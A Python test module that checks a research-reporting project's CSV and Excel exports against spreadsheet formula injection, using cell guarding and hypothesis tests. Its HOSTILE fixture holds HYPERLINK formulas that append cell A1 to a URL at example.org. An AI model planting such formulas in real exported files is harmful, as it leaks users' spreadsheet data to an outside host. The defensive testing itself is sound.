"""Cells of every CSV and workbook: words that a spreadsheet would take for a formula stay words."""

import csv
import re

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from matplotlib.figure import Figure

from learning_themes.reports.board import write_board_report
from learning_themes.reports.drawing import Chart, save_chart
from learning_themes.reports.workbook import write_workbook
from learning_themes.themes.coding import Coded
from learning_themes.themes.evaluation import read_coded
from learning_themes.themes.exchange import write_coded
from learning_themes.typed_cells import FORMULA_STARTS, guard_cell, unguard_cell
from tests.tables_fixture import make_change_tables, make_tables, small_codebook, write_tables

CODEBOOK = small_codebook(2)
HOSTILE = [f'{sign}HYPERLINK("https://example.org/?" & A1, "look")' for sign in FORMULA_STARTS]
_NUMBER = re.compile(r"[-+]?[\d.]+(e-?\d+)?%?")


def find_formulas(path) -> list[str]:
    """Return the cells of a CSV file or a workbook that a spreadsheet would evaluate.

    In a workbook also words that would become a formula where their cell is typed in again.
    """
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as lines:
            cells = [cell for row in csv.reader(lines) for cell in row]
        return [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(cell)]
    cells = [cell for sheet in openpyxl.load_workbook(path) for row in sheet.iter_rows() for cell in row]
    words = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)]
    return [str(cell.value) for cell in words if cell.data_type == "f" or not cell.quotePrefix]


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """Return a run folder whose reviews, passages and files begin as formulas do."""
    folder, tables = tmp_path_factory.mktemp("run"), make_tables(CODEBOOK, reviews=12, comparison=2)
    columns = {"register": ("title", "file", "partnership", "author"), "passages": ("text", "heading")}
    for table, column in ((table, column) for table, names in columns.items() for column in names):
        rows = range(len(tables[table]))
        tables[table][column] = [f"{HOSTILE[place % len(HOSTILE)]}{place}" for place in rows]
    write_tables(tables | make_change_tables(tables, list(CODEBOOK.themes)), folder)
    write_board_report(folder, codebook=CODEBOOK, partnership="=1+1", dates="publication", as_of="2026-01-31")
    write_workbook(folder, CODEBOOK)
    return folder


def test_no_csv_and_no_workbook_of_a_run_holds_a_formula(hostile_run):
    paths = [path for path in hostile_run.rglob("*") if path.suffix in (".csv", ".xlsx")]
    assert {path.suffix for path in paths} == {".csv", ".xlsx"} and len(paths) > 4
    found = {path.name: cells for path in paths if (cells := find_formulas(path))}
    assert not found


def test_every_csv_file_and_workbook_of_the_whole_suite_is_free_of_formulas(example_run):
    places = [example_run, example_run.parent / "people"]
    paths = [path for place in places for path in place.rglob("*") if path.suffix in (".csv", ".xlsx")]
    assert len([path for path in paths if path.suffix == ".csv"]) > 10
    assert len([path for path in paths if path.suffix == ".xlsx"]) >= 3
    assert not {path.name: cells for path in paths if (cells := find_formulas(path))}


def test_the_search_finds_a_formula(tmp_path):
    (tmp_path / "a.csv").write_text('a,"-1",-x,"@SUM(A1)"\n', encoding="utf-8")
    assert find_formulas(tmp_path / "a.csv") == ["-x", "@SUM(A1)"]
    book = openpyxl.Workbook()
    book.active.append(["=1+1", "plain", -1])
    book.save(tmp_path / "a.xlsx")
    assert find_formulas(tmp_path / "a.xlsx") == ["=1+1"]


def test_the_numbers_beside_a_chart_are_guarded_and_stay_numbers(tmp_path):
    numbers = pd.DataFrame({"=title": HOSTILE, "change": [-0.5] * len(HOSTILE)})
    path = save_chart(Chart(Figure(), "alt", numbers), tmp_path, "chart")[2]
    assert not find_formulas(path)
    back = pd.read_csv(path)
    assert list(back["change"]) == [-0.5] * len(HOSTILE) and list(back.columns)[0] == "'=title"


def test_coded_pairs_hold_no_formula_and_are_read_back_by_their_ids(tmp_path):
    one = Coded("neglect", "shortfall", 0.8, "rule", HOSTILE[0], 0.5)
    path = tmp_path / "coded.csv"
    write_coded(path, [(identity, [one]) for identity in HOSTILE])
    assert not find_formulas(path)
    assert set(read_coded(path)) == set(HOSTILE)


@settings(deadline=None)
@given(st.one_of(st.sampled_from(HOSTILE), st.text()))
def test_a_guarded_cell_is_no_formula_and_comes_back(text):
    guarded = guard_cell(text)
    assert not guarded.startswith(FORMULA_STARTS)
    assert unguard_cell(guarded) in (text, text.removeprefix("'"))
